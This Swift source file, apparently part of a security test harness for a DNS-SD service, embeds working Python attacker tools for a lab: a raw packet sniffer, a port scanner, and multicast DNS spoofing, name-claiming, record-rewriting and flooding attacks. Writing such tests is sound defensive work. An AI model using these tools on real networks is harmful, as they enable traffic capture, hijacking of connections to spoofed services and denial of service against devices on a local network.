// SPDX-License-Identifier: Apache-2.0

/// Programs of an attacker on a lab host: raw packets, in the one language that every such machine has.
enum HostilePrograms {
    /// Writes every frame of the host's link to the file that is its argument, each behind a length of four bytes.
    static let tap = """
        import socket, struct, sys
        tap = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(3))
        tap.setsockopt(socket.SOL_SOCKET, 33, 64 << 20) # SO_RCVBUFFORCE
        tap.bind(("eth0", 0))
        out = open(sys.argv[1], "wb", buffering=0)
        print("ready", flush=True)
        while True:
            frame = tap.recv(1 << 17)
            out.write(struct.pack(">I", len(frame)) + frame)
        """

    /// Prints the ports on which an address takes connections, of those that a program may have that is no service of
    /// the system. Argument: the address.
    static let scanner = """
        import socket, sys
        for port in range(1024, 1 << 16):
            with socket.socket() as s:
                s.settimeout(10)
                if not s.connect_ex((sys.argv[1], port)): print(port, flush=True)
        """

    /// Sends each message (a line of hexadecimal digits on standard input) to an address, and prints how many bytes
    /// came back before the end.
    static let prober = """
        import socket, sys
        for line in sys.stdin:
            s = socket.create_connection((sys.argv[1], int(sys.argv[2])), 10)
            s.settimeout(30)
            answer = b""
            try:
                s.sendall(bytes.fromhex(line))
                while piece := s.recv(4096): answer += piece
            except ConnectionResetError: pass
            except TimeoutError: answer += b"timeout"
            s.close()
            print(len(answer), flush=True)
        """

    /// Names, records and packets of multicast DNS (RFC 6762), for those below.
    private static let multicastDNS = """
        import socket, struct, sys, select, random, time
        GROUP = ("224.0.0.251", 5353)
        SERVICE = "_baton._tcp.local"
        def name(text): return b"".join(bytes([len(l)]) + l.encode() for l in text.split(".")) + b"\\0"
        def record(owner, kind, data, flush=0x8000, ttl=120):
            return name(owner) + struct.pack(">HHIH", kind, 1 | flush, ttl, len(data)) + data
        def packet(records): return struct.pack(">HHHHHH", 0, 0x8400, 0, len(records), 0, 0) + b"".join(records)
        def instance(label, text, port, target):
            own = label + "." + SERVICE
            return [record(SERVICE, 12, name(own), flush=0), record(own, 16, text),
                    record(own, 33, struct.pack(">HHH", 0, 0, port) + name(target))]
        def group(address):
            s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
            s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
            s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEPORT, 1)
            s.bind(("", 5353))
            here = socket.inet_aton(address)
            s.setsockopt(socket.IPPROTO_IP, socket.IP_ADD_MEMBERSHIP, socket.inet_aton(GROUP[0]) + here)
            s.setsockopt(socket.IPPROTO_IP, socket.IP_MULTICAST_IF, here)
            s.setsockopt(socket.IPPROTO_IP, socket.IP_MULTICAST_TTL, 255)
            return s
        def read(message, at):
            labels, end = [], None
            while message[at]:
                if message[at] >= 0xC0:
                    end = end or at + 2
                    at = (message[at] & 0x3F) << 8 | message[at + 1]
                else:
                    labels.append(message[at + 1:at + 1 + message[at]].decode("latin-1"))
                    at += 1 + message[at]
            return ".".join(labels), end or at + 1

        """

    /// Announces a clone of an advertisement, and the real instance as well, at a port and an address of the
    /// attacker's. Arguments: own address, TXT record in hexadecimal digits, the real instance, the victim's host name,
    /// ports. Prints `announced` after each round and `hit PORT` for each connection to one of the ports.
    static let spoofer =
        multicastDNS + """
            own, text, real, host = sys.argv[1], bytes.fromhex(sys.argv[2]), sys.argv[3], sys.argv[4]
            ports = sys.argv[5:]
            traps = {}
            for port in ports:
                trap = socket.create_server((own, int(port)))
                traps[trap] = port
            s, due = group(own), 0
            while True:
                if time.monotonic() >= due:
                    due = time.monotonic() + 0.5
                    for number, port in enumerate(ports):
                        here = record("trap.local", 1, socket.inet_aton(own))
                        clone = instance("aaaabbbbccc" + "abcdefgh"[number], text, int(port), "trap.local")
                        s.sendto(packet(clone + [here]), GROUP)
                        there = record(host + ".local", 1, socket.inet_aton(own))
                        s.sendto(packet(instance(real, text, int(port), "trap.local")[2:] + [here, there]), GROUP)
                    print("announced", flush=True)
                ready, _, _ = select.select([s, *traps], [], [], 0.1)
                for r in ready:
                    if r is s: s.recv(9000)
                    else:
                        r.accept()[0].close()
                        print("hit", traps[r], flush=True)
            """

    /// A client that believes DNS-SD, as LocalSend and KDE Connect do. It waits for an SRV record of the service with a
    /// certain port, and connects to the address of that record. Arguments: own address, ports.
    static let believer =
        multicastDNS + """
            s = group(sys.argv[1])
            while True:
                message = s.recv(9000)
                questions, answers = struct.unpack(">HH", message[4:8])
                if questions or not answers: continue
                at, port, address = 12, 0, None
                for _ in range(answers):
                    owner, at = read(message, at)
                    kind, _, _, length = struct.unpack(">HHIH", message[at:at + 10])
                    data, at = message[at + 10:at + 10 + length], at + 10 + length
                    if kind == 33 and owner.endswith(SERVICE): port = struct.unpack(">H", data[4:6])[0]
                    if kind == 1: address = socket.inet_ntoa(data)
                if str(port) in sys.argv[2:] and address:
                    socket.create_connection((address, port), 10).close()
                    print("connected", address, port, flush=True)
                    break
            """

    /// Says of one instance name that it is somebody else's, whenever a device asks before it takes it (RFC 6762,
    /// section 8.1). Arguments: own address, which of the names that are asked for. Prints `ready`, and `taken NAME`
    /// each time.
    static let claimant =
        multicastDNS + """
            number, names, s = int(sys.argv[2]), [], group(sys.argv[1])
            print("ready", flush=True)
            while True:
                message = s.recv(9000)
                flags, questions, _, authorities = struct.unpack(">HHHH", message[2:10])
                if flags & 0x8000 or not authorities: continue
                at = 12
                for _ in range(questions):
                    owner, at = read(message, at)
                    at += 4
                    label, _, rest = owner.partition(".")
                    if rest != SERVICE: continue
                    if label not in names: names.append(label)
                    if names.index(label) != number: continue
                    taken = struct.pack(">HHH", 0, 0, 7) + name("trap.local")
                    s.sendto(packet([record(owner, 33, taken)]), GROUP)
                    print("taken", label, flush=True)
            """

    /// Says to one host alone that an instance has another record, again and again. Arguments: own address, the host's,
    /// the instance, how many seconds are between two. Each is a number in hexadecimal digits. Prints `begun`.
    static let rewriter =
        multicastDNS + """
            own, host, label, pause, s = *sys.argv[1:4], float(sys.argv[4]), group(sys.argv[1])
            number = 0
            while True:
                # What is said to the group its owner would hear, and take another name.
                txt = b"\\x08" + b"%08x" % number
                s.sendto(packet([record(label + "." + SERVICE, 16, txt)]), (host, 5353))
                number += 1
                if number == 100: print("begun", flush=True)
                time.sleep(pause)
            """

    /// Announces instances without end. Arguments: own address, number of bogus instances, number of clones, the cloned
    /// TXT record, and optionally the number of names without a record. Prints `round` after each round.
    static let flooder =
        multicastDNS + """
            own, bogus, clones, text = sys.argv[1], int(sys.argv[2]), int(sys.argv[3]), bytes.fromhex(sys.argv[4])
            silent = int(sys.argv[5]) if len(sys.argv) > 5 else 0
            # Other names for other arguments.
            chance = random.Random(" ".join(sys.argv))
            letters = "abcdefghijklmnopqrstuvwxyz234567"
            label = lambda: "".join(chance.choice(letters) for _ in range(12))
            # As long as the real thing: a version and two strings of noise.
            noise = lambda: b"\\3v=1" + b"".join(b"\\xfa" + k + chance.randbytes(248) for k in (b"a=", b"b="))
            all = [(label(), noise()) for _ in range(bogus)] + [(label(), text) for _ in range(clones)]
            all += [(label(), None) for _ in range(silent)]
            chance.shuffle(all)
            s = group(own)
            while True:
                for name_, txt in all:
                    records = instance(name_, txt or b"", 9, "trap.local")
                    s.sendto(packet(records[:1] if txt is None else records), GROUP)
                    time.sleep(0.0005)
                print("round", flush=True)
                # Until half of the time to live is over they stand; questions are not answered.
                end = time.monotonic() + 20
                while (left := end - time.monotonic()) > 0:
                    if select.select([s], [], [], left)[0]: s.recv(9000)
            """
}
